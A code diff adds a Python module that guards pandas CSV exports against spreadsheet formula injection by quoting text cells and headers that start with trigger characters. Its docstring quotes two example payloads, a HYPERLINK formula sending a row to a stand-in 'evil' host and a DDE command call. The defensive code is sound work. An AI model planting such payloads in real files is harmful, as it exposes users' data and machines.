@@ -1,0 +1,95 @@
+"""CSV cells that a spreadsheet cannot run.
+
+A spreadsheet opening a CSV reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or
+carriage return before one) as a formula: `=HYPERLINK("https://evil/?"&A2, "click")` in a
+respondent's evidence note becomes a link that sends the row away, `+cmd|' /C calc'!A0` a DDE
+call. OWASP's remedy, used here: prefix such a text cell with a single quote, which the
+spreadsheet shows as text. Only text changes: a number (negative or not) that is a number type
+stays a number, so numeric columns still sort and sum. Text that looks like a number ("-2") is
+prefixed too, because only the type tells a number from text the user typed.
+
+    df = safe_frame(df)           # before df.to_csv(...) of a file people open
+    write_csv(df, path)           # the same, written atomically as UTF-8
+
+Files the pipeline also reads back use `reversible=True` on the way out and `restore` on the
+way in (see `neutralise`).
+"""
+
+from __future__ import annotations
+
+import io
+from pathlib import Path
+
+import pandas as pd
+
+from pipelines.staging import atomic_write_bytes
+
+TRIGGERS = frozenset("=+-@\t\r")
+QUOTE = "'"
+
+
+def neutralise(value, *, reversible: bool = False):
+    """`value` with a leading quote if it is text a spreadsheet would run as a formula.
+
+    Plain mode leaves text that already starts with a quote alone, so applying it twice changes
+    nothing. With `reversible=True` a text whose leading quotes are followed by a trigger gets
+    one more quote as well ("'=x" -> "''=x"), which makes `restore` its exact inverse: without
+    that, a note the user typed as "'=x" would come back as "=x".
+    """
+    if not isinstance(value, str):
+        return value
+    head = value.lstrip(QUOTE) if reversible else value
+    return QUOTE + value if head[:1] in TRIGGERS else value
+
+
+def restore(value):
+    """The inverse of `neutralise(value, reversible=True)`; anything else comes back as is."""
+    if isinstance(value, str) and value[:1] == QUOTE and value.lstrip(QUOTE)[:1] in TRIGGERS:
+        return value[1:]
+    return value
+
+
+def _text_columns(df: pd.DataFrame) -> list:
+    return [c for c in df.columns
+            if pd.api.types.is_object_dtype(df[c]) or pd.api.types.is_string_dtype(df[c])
+            or isinstance(df[c].dtype, pd.CategoricalDtype)]
+
+
+def _map_frame(df: pd.DataFrame, fn) -> pd.DataFrame:
+    out = df.copy()
+    for c in _text_columns(df):
+        if isinstance(out[c].dtype, pd.CategoricalDtype):
+            cats = out[c].cat.categories
+            mapped = [fn(v) for v in cats]
+            # two categories could map to one value only if one already carried the quote
+            out[c] = (out[c].cat.rename_categories(mapped) if len(set(mapped)) == len(mapped)
+                      else out[c].astype(object).map(fn))
+        else:
+            out[c] = out[c].map(fn, na_action="ignore")
+    # a header is a cell too (rejected-rows files carry the uploaded file's own headers)
+    out.columns = [fn(c) for c in out.columns]
+    return out
+
+
+def safe_frame(df: pd.DataFrame, *, reversible: bool = False) -> pd.DataFrame:
+    """A copy of `df` with every text cell and header neutralised; numbers untouched."""
+    return _map_frame(df, lambda v: neutralise(v, reversible=reversible))
+
+
+def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """Undo `safe_frame(df, reversible=True)` after reading such a file back."""
+    return _map_frame(df, restore)
+
+
+def csv_bytes(df: pd.DataFrame, *, reversible: bool = False, **kw) -> bytes:
+    """`safe_frame(df)` as UTF-8 CSV bytes (no index, "\\n" line ends unless given)."""
+    kw.setdefault("index", False)
+    kw.setdefault("lineterminator", "\n")
+    buf = io.StringIO()
+    safe_frame(df, reversible=reversible).to_csv(buf, **kw)
+    return buf.getvalue().encode("utf-8")
+
+
+def write_csv(df: pd.DataFrame, path: Path | str, *, reversible: bool = False, **kw) -> None:
+    """Write `safe_frame(df)` to `path` atomically (a reader never sees half a file)."""
+    atomic_write_bytes(Path(path), csv_bytes(df, reversible=reversible, **kw))
